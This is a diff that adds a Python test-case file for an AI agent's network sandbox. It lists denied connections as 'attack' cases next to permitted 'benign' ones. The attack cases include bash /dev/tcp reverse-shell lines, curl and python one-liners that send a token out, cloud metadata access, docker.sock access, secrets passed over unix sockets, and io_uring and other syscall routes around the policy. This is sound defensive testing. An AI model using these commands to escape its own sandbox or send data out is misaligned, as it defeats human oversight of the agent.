@@ -1,0 +1,106 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Network: reaching peers that network.connect does not name, and being reached."""
+
+from case import attack, benign
+
+# The agent may reach port 7001 of these addresses; port 7002 of the same hosts is denied.
+V4, V6 = "10.0.1.1", "2001:db8::1"
+
+
+def send(id, title, command, evasions=(), event="network", effect="sent", **more):
+    return attack("net-" + id, title, command, "net", effect, event, evasions=evasions, **more)
+
+
+CASES = [
+    send("tcp", "TCP", f"tcp {V4} 7002 {{token}}", tier="policy", rule="net.network"),
+    send("tcp-other-host", "the permitted port of another host", "tcp 10.0.1.2 7001 {token}", tier="policy"),
+    send("tcp6", "TCP over IPv6", f"tcp {V6} 7002 {{token}}", tier="policy"),
+    send("mapped", "an IPv4-mapped IPv6 address", f"tcp ::ffff:{V4} 7002 {{token}}", (83,), tier="policy"),
+    send("zero", "0.0.0.0 as this host", "tcp 0.0.0.0 7002 {token}", (84,), tier="policy"),
+    send("zero6", ":: as this host", "tcp :: 7002 {token}", (84,), tier="policy"),
+    send("loopback", "another address of 127/8", "tcp 127.9.9.9 7001 {token}", (84,), tier="policy"),
+    send("loopback6", "::1", "tcp ::1 7002 {token}", (84,), tier="policy"),
+    send("reused", "a socket disconnected from a permitted peer", f"tcp-reused {V4} 7002 {{token}} {V4} 7001", (82,), tier="policy"),
+    send("fast-open", "TCP Fast Open: bytes before any connect", f"fast-open {V4} 7002 {{token}}", (76,)),
+    send("fast-open6", "TCP Fast Open over IPv6", f"fast-open {V6} 7002 {{token}}", (76,)),
+    send("fast-open-allowed-only-by-connect", "TCP_FASTOPEN_CONNECT", f"fast-open-connect {V4} 7002 {{token}}", (76,)),
+    send("mptcp", "Multipath TCP", f"tcp-protocol {V4} 7002 {{token}} 262", (77,)),
+    send("mptcp6", "Multipath TCP over IPv6", f"tcp-protocol {V6} 7002 {{token}} 262", (77,)),
+    send("sctp", "SCTP", f"tcp-protocol {V4} 7002 {{token}} 132", (78,)),
+    send("udp", "UDP by sendto", f"udp {V4} 7002 {{token}}", (80,), tier="policy"),
+    send("udp6", "UDP over IPv6", f"udp {V6} 7002 {{token}}", (80,), tier="policy"),
+    send("udp-sendmsg", "UDP by sendmsg", f"udp-sendmsg {V4} 7002 {{token}}", (80,), tier="policy"),
+    send("udp-sendmmsg", "the second message of sendmmsg", f"udp-sendmmsg {V4} 7002 {{token}} {V4} 7001", (81,), tier="policy"),
+    send("udp-connect", "UDP by connect and send", f"udp-connect {V4} 7002 {{token}}", tier="policy"),
+    send("udp-redirected", "another peer than the connected one", f"udp-redirected {V4} 7002 {{token}} {V4} 7001", (80,), tier="policy"),
+    send("udp-unspec", "UDP with family AF_UNSPEC", f"udp-unspec {V4} 7002 {{token}}", (82,)),
+    send("udp-mapped", "UDP to an IPv4-mapped address", f"udp ::ffff:{V4} 7002 {{token}}", (83,), tier="policy"),
+    send("udp-v6-socket", "an IPv4 address on an IPv6 UDP socket", f"udp-v6-socket {V4} 7002 {{token}}", (83,), tier="policy"),
+    send("udp-instead-of-tcp", "UDP to a port permitted for TCP only", f"udp {V4} 7003 {{token}}", (80,), tier="policy"),
+    send("tcp-instead-of-udp", "TCP to a port permitted for UDP only", f"tcp {V4} 7004 {{token}}", tier="policy"),
+    send("udplite", "UDP-Lite", f"udp {V4} 7002 {{token}} 136", (78, 80)),
+    send("raw", "a raw IP packet", f"raw-packet {V4} 7002 {{token}}", (85,), tier="floor"),
+    send("packet", "a packet below the IP layer", "link-packet 127.0.0.1 7002 {token}", (86,), tier="floor"),
+    send("ia32", "connect by the 32-bit system call", f"ia32-connect {V4} 7002 {{token}}", (109,)),
+    send("uring", "connect by io_uring", f"uring-connect {V4} 7002 {{token}}", (103,), event=None),
+    send("uring-sqpoll", "connect by io_uring's polling thread", f"uring-sqpoll-connect {V4} 7002 {{token}}", (105,), event=None),
+    send("uring-sendmsg", "UDP by io_uring", f"uring-sendmsg {V4} 7002 {{token}}", (103,), event=None),
+    send("shell", "a shell's /dev/tcp", f"run bash -c 'exec 3<>/dev/tcp/{V4}/7002 && echo {{token}} >&3 && read -t 5 -u 3 x'", (47,), errors=()),
+    send("reverse-shell", "a reverse shell", f"run bash -c 'exec 5<>/dev/tcp/{V4}/7002 && id >&5 && echo {{token}} >&5 && read -t 5 x <&5'", (46, 47), errors=()),
+    send("curl", "by curl", f"run curl -s -m 5 --http0.9 -o /dev/null -d {{token}} http://{V4}:7002/", (48,), errors=()),
+    send("python", "by an interpreter's -c",
+         f"run python3 -c 'import socket; s = socket.create_connection((\"{V4}\", 7002), 5); s.sendall(b\"{{token}}\"); s.recv(9)'", (46,), errors=()),
+    send("metadata", "a cloud metadata address", "tcp 169.254.169.254 80 {token}", (97,), tier="policy"),
+    # Sockets of other kinds.
+    attack("net-vsock", "a socket to the hypervisor", "vsock", "open", event="network", tier="floor", evasions=(88,)),
+    attack("net-af-alg", "the kernel's crypto sockets", "af-alg", "open", event="network", tier="floor", evasions=(89,)),
+    attack("net-raw-icmp", "a raw ICMP socket", "socket 2 3 1", "open", event="network", tier="floor", evasions=(87,)),
+    attack("net-raw6", "a raw IPv6 socket", "socket 10 3 58", "open", event="network", tier="floor", evasions=(85,)),
+    attack("net-packet-socket", "a packet socket", "socket 17 3 0", "open", event="network", tier="floor", evasions=(86,)),
+    attack("net-xdp-socket", "an XDP socket", "socket 44 3 0", "open", event="network", tier="floor", evasions=(86,)),
+    attack("net-netlink-route", "adding an address by netlink", "netlink-address 10.9.9.9", "net", evasions=(89,)),
+    attack("net-netlink-netfilter", "a netfilter netlink socket", "socket 16 3 12", "net", event="network", evasions=(89,)),
+    attack("net-netlink-audit", "an audit netlink socket", "socket 16 3 9", "net", event="network", evasions=(89,)),
+    attack("net-netlink-uevent", "a kernel events netlink socket", "socket 16 3 15", "net", event="network", evasions=(89,)),
+    # Unix sockets.
+    send("unix", "a unix socket that network.unix does not name", "unix {run}/docker.sock {token}", (90,), path="docker.sock", tier="policy"),
+    send("unix-symlink", "through a symbolic link", "unix-symlink {run}/docker.sock {token} {tmp}", (90,), tier="policy"),
+    send("unix-hardlink", "through a hard link", "unix-hardlink {run}/docker.sock {token} {tmp}", (90,), tier="policy"),
+    send("unix-bind", "through a bind mount made before the session", "unix {bound_run}/docker.sock {token}", (90,), tier="policy"),
+    send("unix-abstract", "an abstract unix socket", "unix @lictor-denied {token}", (90,), tier="policy"),
+    send("unix-dgram", "a unix datagram", "unix-dgram {run}/denied.dgram {token}", (90,), tier="policy"),
+    send("unix-dgram-connect", "a connected unix datagram socket", "unix-dgram-connect {run}/denied.dgram {token}", (90,), tier="policy"),
+    send("unix-packets", "a unix packet socket", "unix-packets {run}/packets.sock {token}", (90,), tier="policy"),
+    attack("net-passed-file", "an open secret passed over a permitted unix socket", "passed-file {run}/helper.sock", "net-files", "leak", evasions=(91,)),
+    send("passed-socket", "a connected socket passed over a permitted unix socket", "passed-socket {run}/helper.sock {token}", (91,)),
+    send("passed-v6-socket", "the same over IPv6", "passed-socket {run}/helper.sock {token} socket6", (91,)),
+    # Coming in.
+    send("bind-shell", "listening on a port that network.listen does not name", "bind-shell 0.0.0.0 9009", (92,), effect="status", knock=("tcp", 9009)),
+    send("bind-shell6", "listening on IPv6", "bind-shell :: 9009", (92,), effect="status", knock=("tcp", 9009)),
+    send("bind-wildcard", "every address instead of the permitted one", "bind-shell 0.0.0.0 8050", (92,), effect="status", knock=("tcp", 8050)),
+    send("bind-mapped", "an IPv4-mapped address", f"bind-shell ::ffff:{V4} 9009", (83, 92), effect="status", knock=("tcp", 9009)),
+    send("bind-mptcp", "listening with Multipath TCP", "bind-shell 0.0.0.0 9009 262", (77, 92), effect="status", knock=("tcp", 9009)),
+    send("listen-unbound", "listening without bind", "listen-unbound", (92,), effect="status"),
+    send("udp-bind", "receiving UDP on a port that is not named", "udp-bind 0.0.0.0 9010", (92,), effect="status", knock=("udp", 9010)),
+    # An empty list permits nothing.
+    attack("net-empty", "any peer, with an empty list", f"tcp {V4} 7001 {{token}}", "offline", "sent", "network", tier="policy"),
+    attack("net-empty-unix", "any unix socket, with an empty list", "unix {run}/ok.sock {token}", "offline", "sent", "network", tier="policy"),
+    attack("net-empty-listen", "any port, with an empty list", "own-server 127.0.0.1 8010", "offline", "status", "network"),
+    # Ordinary work.
+    benign("net-tcp-ok", "TCP to a permitted peer", f"tcp {V4} 7001 {{token}}", "net", "sent"),
+    benign("net-tcp6-ok", "TCP over IPv6", f"tcp {V6} 7001 {{token}}", "net", "sent"),
+    benign("net-mapped-ok", "a permitted peer by its mapped address", f"tcp ::ffff:{V4} 7001 {{token}}", "net", "sent"),
+    benign("net-cidr-ok", "a peer inside a permitted range", "tcp 127.0.0.1 7001 {token}", "net", "sent"),
+    benign("net-udp-ok", "UDP to a permitted peer", f"udp {V4} 7001 {{token}}", "net", "sent"),
+    benign("net-udp-connect-ok", "connected UDP to a permitted peer", f"udp-connect {V4} 7001 {{token}}", "net", "sent"),
+    benign("net-udp6-ok", "UDP over IPv6", f"udp {V6} 7001 {{token}}", "net", "sent"),
+    benign("net-udp-only-ok", "UDP to a port permitted for UDP only", f"udp {V4} 7004 {{token}}", "net", "sent"),
+    benign("net-unix-ok", "a permitted unix socket", "unix {run}/ok.sock {token}", "net", "sent"),
+    benign("net-abstract-ok", "a permitted abstract socket", "unix @lictor-ok {token}", "net", "sent"),
+    benign("net-socketpair", "a pair of sockets of its own", "socketpair", "net"),
+    benign("net-netlink-dump", "reading the host's addresses", "netlink-dump", "net"),
+    benign("net-server", "a development server and its client", "own-server 127.0.0.1 8010", "net"),
+    benign("net-server-reached", "a development server reached from outside", "bind-shell 127.0.0.1 8011", "net", knock=("tcp", 8011)),
+    benign("net-curl-ok", "curl to a permitted peer", f"run curl -s -m 5 --http0.9 -o /dev/null -d {{token}} http://{V4}:7001/", "net", "sent"),
+    benign("net-monitor", "a denied peer in monitor mode", f"tcp {V4} 7002 {{token}}", "watched", "sent"),
+]
